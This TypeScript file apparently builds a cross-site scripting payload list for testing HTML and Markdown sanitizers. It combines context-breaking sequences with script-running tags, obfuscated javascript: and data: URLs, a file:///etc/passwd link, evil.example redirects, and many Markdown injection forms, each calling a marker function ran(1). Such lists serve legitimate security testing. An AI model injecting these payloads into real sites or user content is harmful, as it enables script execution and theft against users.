import { barePayloads } from './xss-bare.ts'

// All payloads: those of xss-bare.ts, the strongest behind each way to break out of a context, and
// URLs in Markdown.

/** Each ends a context in which a text may be printed. */
const breakouts: readonly string[] = [
  '">',
  "'>",
  '"',
  "'",
  '` ',
  '/>',
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '</pre></details>',
  '</option></select>',
  '</text></svg>',
  '</math>',
  '-->',
  ']]>',
  '?>',
  '%>',
  '\n\n',
  '\n    ',
]
const strongest: readonly string[] = [
  '<img src=x onerror=ran(1)>',
  '<script>ran(1)</script>',
  '<svg onload=ran(1)>',
  ' onmouseover=ran(1) autofocus onfocus=ran(1) style=position:fixed;inset:0 x="',
]

/** URLs that run a script, or that lead elsewhere than they seem to. */
const urls: readonly string[] = [
  'javascript:ran(1)',
  'JaVaScRiPt:ran(1)',
  'java\tscript:ran(1)',
  'javascript&colon;ran(1)',
  'javascript&#58;ran(1)',
  '&#106;avascript:ran(1)',
  'javascript%3Aran(1)',
  'javascript://evil.example/%0aran(1)',
  'vbscript:ran(1)',
  'data:text/html,<script>ran(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=ran(1)>',
  'feed:javascript:ran(1)',
  'view-source:javascript:ran(1)',
  'blob:javascript:ran(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  'https:javascript:ran(1)',
  'http://evil.example/"onmouseover="ran(1)',
  "https://evil.example/'><img src=x onerror=ran(1)>",
]
/** The forms of a URL in Markdown. */
const markdownForms: readonly ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `![x](${url})`,
  (url) => `<${url}>`,
  (url) => `[x][y]\n\n[y]: ${url} "t"`,
  (url) => `[![x](${url})](${url})`,
]

const inMarkdown: readonly string[] = [
  '[x](https://evil.example/ "onmouseover=ran(1)")',
  '[x](https://evil.example/ "\\"><img src=x onerror=ran(1)>")',
  '[<img src=x onerror=ran(1)>](https://evil.example/)',
  '![<script>ran(1)</script>](https://evil.example/x.png)',
  '![x](https://evil.example/x.png"onerror="ran(1))',
  '![x][y]\n\n[y]: https://evil.example/x.png',
  '`<img src=x onerror=ran(1)>`',
  '```"><img src=x onerror=ran(1)>\n<script>ran(1)</script>\n```',
  '``` x" onmouseover="ran(1)\ny\n```',
  '~~~<script>\nran(1)\n~~~',
  '    <script>ran(1)</script>',
  '> <script>ran(1)</script>',
  '* <img src=x onerror=ran(1)>',
  '| a | b |\n|---|---|\n| <img src=x onerror=ran(1)> | x |',
  '# <svg onload=ran(1)>',
  '<script>ran(1)</script>\n===',
  '[x]: javascript:ran(1)\n[x]',
  '[x](javascript&colon;ran(1) "y")',
  '[a](\\javascript:ran(1))',
  '[a](java\\script:ran(1))',
  '[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x72an(1))',
  'https://evil.example/"><img/src=x/onerror=ran(1)>',
  'https://evil.example/<script>ran(1)</script>',
  'mailto:x@evil.example"onmouseover="ran(1)',
  '<mailto:"><img/src=x/onerror=ran(1)>>',
  '**<img src=x onerror=ran(1)>**',
  '\\<img src=x onerror=ran(1)>',
  '<div markdown=1><script>ran(1)</script></div>',
  '&lt;![x](javascript:ran(1))&gt;',
  '[x](https://evil.example/)\n{: onclick="ran(1)"}',
  '[^1]\n\n[^1]: <img src=x onerror=ran(1)>',
  '*[<script>]: ran(1)',
]

/** All payloads, without duplicates. */
export const xssPayloads: readonly string[] = [
  ...new Set([
    ...barePayloads,
    ...breakouts.flatMap((breakout) => strongest.map((payload) => breakout + payload)),
    ...urls.flatMap((url) => markdownForms.map((write) => write(url))),
    ...urls,
    ...inMarkdown,
  ]),
]
